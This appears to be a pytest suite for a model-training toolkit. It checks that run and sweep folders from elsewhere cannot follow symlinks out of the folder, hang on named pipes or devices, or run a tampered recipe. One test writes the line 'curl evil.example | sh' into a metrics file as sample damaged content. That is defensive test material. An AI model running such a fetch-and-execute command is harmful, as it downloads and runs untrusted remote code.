"""Folders from elsewhere: a link leads nowhere, a pipe holds nobody up, and a store changes nothing that was planned."""

from __future__ import annotations

import os
import shutil
import signal
import sqlite3
from pathlib import Path

import pytest

from rosd_kit.cli import main
from rosd_kit.errors import RunError
from rosd_kit.files import lock_file, read_json_object
from rosd_kit.model.weight_files import weight_files
from rosd_kit.plugins.manager import PluginManager
from rosd_kit.recipe import load_recipe, to_yaml
from rosd_kit.recipe.trust_store import trust
from rosd_kit.run.folder import RunFolder
from rosd_kit.run.links import check_entries
from rosd_kit.sweep.command import LaunchSettings, run_sweep
from rosd_kit.sweep.settings import read_sweep
from rosd_kit.sweep.store import FILE, Row
from rosd_kit.sweep.trial_id import trial_id, trust_digests
from rosd_kit.sweep.worker import _run
from rosd_kit.training.checkpoint import load_state
from tests.run.conftest import TINY

MINE = "what I wrote\n"
#: What a run writes or reads, and where a link for it would lead.
FILES = (
    *("metrics.jsonl", "evaluations.jsonl", "metrics.jsonl.damaged", "environment.json", "trackers.json", ".lock"),
    *("samples/step-000001.jsonl", "checkpoints/step-000002/state.json", "checkpoints/step-000002/manifest.json"),
)
FOLDERS = ("samples", "checkpoints", "checkpoints/step-000002", "model", "tensorboard")


@pytest.fixture(autouse=True)
def own_home(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home" / "config"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "home" / "state"))


@pytest.fixture(autouse=True)
def never_longer():
    """End a test that waits for a pipe."""
    signal.alarm(120)
    yield
    signal.alarm(0)


@pytest.fixture(scope="module")
def finished(run, tmp_path_factory):
    return run(tmp_path_factory.mktemp("runs") / "finished", "steps=2").path


@pytest.fixture
def folder(finished, tmp_path) -> Path:
    return shutil.copytree(finished, tmp_path / "from-elsewhere")


@pytest.fixture
def mine(tmp_path) -> Path:
    """A file and a folder of the user's own."""
    mine = tmp_path / "mine"
    (mine / "folder").mkdir(parents=True)
    for file in (mine / "file", mine / "folder" / "file"):
        file.write_text(MINE)
    return mine


def replace(place: Path, make) -> None:
    if place.is_dir() and not place.is_symlink():
        shutil.rmtree(place)
    place.unlink(missing_ok=True)
    place.parent.mkdir(exist_ok=True)
    make(place)


def to_a_device(place: Path) -> None:
    place.symlink_to("/dev/zero")


def code_of(*words: object) -> int:
    with pytest.raises(SystemExit) as ended:
        main([str(word) for word in words])
    return int(ended.value.code or 0)


class TestResume:
    """`run --resume` of a folder from elsewhere."""

    @pytest.mark.parametrize("name", [*FILES, *FOLDERS])
    def test_a_link_out_of_the_folder_is_refused_by_name(self, folder, mine, name):
        for target in (mine / ("folder" if name in FOLDERS else "file"), mine / "absent", folder / name, Path("/dev/full")):
            replace(folder / name, lambda place, target=target: place.symlink_to(target))
            with pytest.raises(RunError) as refused:
                RunFolder.open(folder)
            assert f"{folder / name}: is a link to {target}" in str(refused.value)
            assert f"rosd-kit trust {folder}" in str(refused.value)
        assert sorted(file.read_text() for file in mine.rglob("file")) == [MINE, MINE] and not (mine / "absent").exists()

    @pytest.mark.parametrize("name", [*FILES, *FOLDERS])
    def test_a_pipe_is_refused_by_name(self, folder, name):
        replace(folder / name, os.mkfifo)
        with pytest.raises(RunError, match=f"{name}: is a pipe"):
            RunFolder.open(folder)

    @pytest.mark.parametrize("name", ["recipe.yaml", "environment.json", "metrics.jsonl"])
    def test_the_command_does_not_wait_for_a_pipe(self, folder, capsys, name):
        replace(folder / name, os.mkfifo)
        assert code_of("run", "--resume", folder, "steps=3") == 2
        assert name in (said := capsys.readouterr().err) and "Please report" not in said

    def test_damaged_lines_are_set_aside_in_the_folder_only(self, folder, mine, capsys):
        (folder / "metrics.jsonl").write_text("curl evil.example | sh\n")
        (folder / "metrics.jsonl.damaged").symlink_to(mine / "file")
        assert code_of("run", "--resume", folder, "steps=3") == 2
        assert "metrics.jsonl.damaged: is a link" in capsys.readouterr().err and (mine / "file").read_text() == MINE

    def test_links_of_the_users_own_are_followed_once_the_folder_is_trusted(self, folder, mine):
        shutil.move(folder / "checkpoints", mine / "checkpoints")
        (folder / "checkpoints").symlink_to(mine / "checkpoints")
        (folder / "latest").symlink_to("checkpoints/step-000002")
        with pytest.raises(RunError, match="is a link to"):
            check_entries(folder, {})
        trust(folder)
        check_entries(folder, {"checkpoints": 2})
        folder.chmod(0o777)
        with pytest.raises(RunError, match="is a link to"):
            check_entries(folder, {})

    def test_links_inside_the_folder_and_what_trackers_keep_are_nobodys_business(self, folder, mine):
        (folder / "latest").symlink_to("checkpoints/step-000002")
        (folder / "wandb").mkdir()
        (folder / "wandb" / "debug.log").symlink_to(mine / "file")
        check_entries(folder, {"samples": 1, "checkpoints": 2})
        link = folder.with_name("link-to-the-run")
        link.symlink_to(folder)
        check_entries(link, {"samples": 1, "checkpoints": 2})


class TestReading:
    """Commands that read a folder wait for nothing and write nowhere else."""

    @pytest.mark.parametrize(
        "name", ["environment.json", "metrics.jsonl", "samples/step-000001.jsonl", "checkpoints", "samples"]
    )
    @pytest.mark.parametrize("make", [os.mkfifo, to_a_device])
    def test_a_report_of_it(self, folder, capsys, name, make):
        replace(folder / name, make)
        assert code_of("report", folder) == 0
        assert "Please report" not in capsys.readouterr().err

    def test_a_report_replaces_a_link_and_not_what_it_leads_to(self, folder, mine):
        (folder / "report.html").symlink_to(mine / "file")
        assert code_of("report", folder) == 0
        assert (mine / "file").read_text() == MINE and not (folder / "report.html").is_symlink()

    @pytest.mark.parametrize("name", ["manifest.json", "state.json"])
    @pytest.mark.parametrize("make", [os.mkfifo, to_a_device, os.mkdir])
    def test_a_checkpoint_of_it(self, folder, name, make):
        checkpoint = folder / "checkpoints" / "step-000002"
        replace(checkpoint / name, make)
        with pytest.raises(RunError, match=rf"{name}: the checkpoint is damaged"):
            load_state(checkpoint)

    @pytest.mark.parametrize("name", ["config.json", "tokenizer.json", "model.safetensors", "generation_config.json"])
    def test_a_model_of_it(self, folder, name):
        replace(folder / "model" / name, os.mkfifo)
        with pytest.raises(RunError, match=f"{name} is a pipe"):
            weight_files(folder / "model", pickles=False)

    def test_a_lock_and_a_record_that_are_pipes(self, tmp_path):
        os.mkfifo(tmp_path / "pipe")
        assert read_json_object(tmp_path / "pipe") == {}
        lock_file(tmp_path / "pipe").close()
        (tmp_path / "link").symlink_to(tmp_path / "absent")
        with pytest.raises(OSError, match="symbolic links"):
            lock_file(tmp_path / "link")
        assert not (tmp_path / "absent").exists()


class TestSweeps:
    """Folders of sweeps."""

    @pytest.mark.parametrize("name", ["trials", "logs", "evaluations", FILE, "trials/.0.yaml", "logs/0.log", "trials/0"])
    def test_a_link_out_of_the_folder_is_refused_by_name(self, tmp_path, mine, name):
        folder = tmp_path / "sweep"
        folder.mkdir()
        replace(folder / name, lambda place: place.symlink_to(mine / "file"))
        with pytest.raises(RunError, match=f"{name}: is a link to"):
            run_sweep(
                read_sweep("rosd", ["seed=0,1"], "micro"),
                PluginManager(selection="builtin"),
                folder,
                (),
                LaunchSettings(),
                "all",
                retry=False,
            )
        assert (mine / "file").read_text() == MINE

    @pytest.mark.parametrize("lease", [float("nan"), float("inf"), 0.0, -1.0])
    def test_a_lease_that_never_ends_is_refused(self, tmp_path, lease):
        sweep = read_sweep("rosd", ["seed=0,1"], "micro")
        with pytest.raises(RunError, match="--lease"):
            run_sweep(
                sweep,
                PluginManager(selection="builtin"),
                tmp_path / "s",
                (),
                LaunchSettings(lease=lease),
                "all",
                retry=False,
            )

    def test_a_recipe_that_was_changed_in_the_store_is_not_run(self, tmp_path):
        registry = PluginManager().registry
        recipe = load_recipe("rosd", [*TINY, "steps=1"], "micro", registry=registry)
        changed = recipe.model_copy(update={"steps": 2})
        id = trial_id(recipe, registry)
        rest = {"seed": 0, "plugins": (), "holder": None, "lease_end": None, "stop": False, "error": None, "result": None}
        row = Row(id=id, recipe=to_yaml(changed), state="running", starts=1, **rest)
        with pytest.raises(
            RunError, match=f"holds another recipe for trial {id}: it would be trial {trial_id(changed, registry)}"
        ):
            _run(tmp_path, row, trust_digests(to_yaml(recipe), ()), None)
        assert not (tmp_path / "trials" / id).exists()

    @pytest.mark.parametrize("content", [b"", b"\0" * 4096, b"SQLite format 3\0" + b"\xff" * 4096, b"[1]"])
    def test_a_report_of_a_store_that_is_none(self, tmp_path, capsys, content):
        (tmp_path / FILE).write_bytes(content)
        assert code_of("sweep", "report", tmp_path) == 2
        assert str(tmp_path) in capsys.readouterr().err

    @pytest.mark.parametrize("table", ["plans", "trials", "facts"])
    def test_a_report_of_a_store_whose_tables_are_others(self, tmp_path, capsys, table):
        with sqlite3.connect(tmp_path / FILE) as database:
            database.execute(f"CREATE TABLE {table} (x)")
            database.execute("PRAGMA user_version = 1")
        assert code_of("sweep", "report", tmp_path) == 2
        said = capsys.readouterr().err
        assert "Please report" not in said and FILE in said
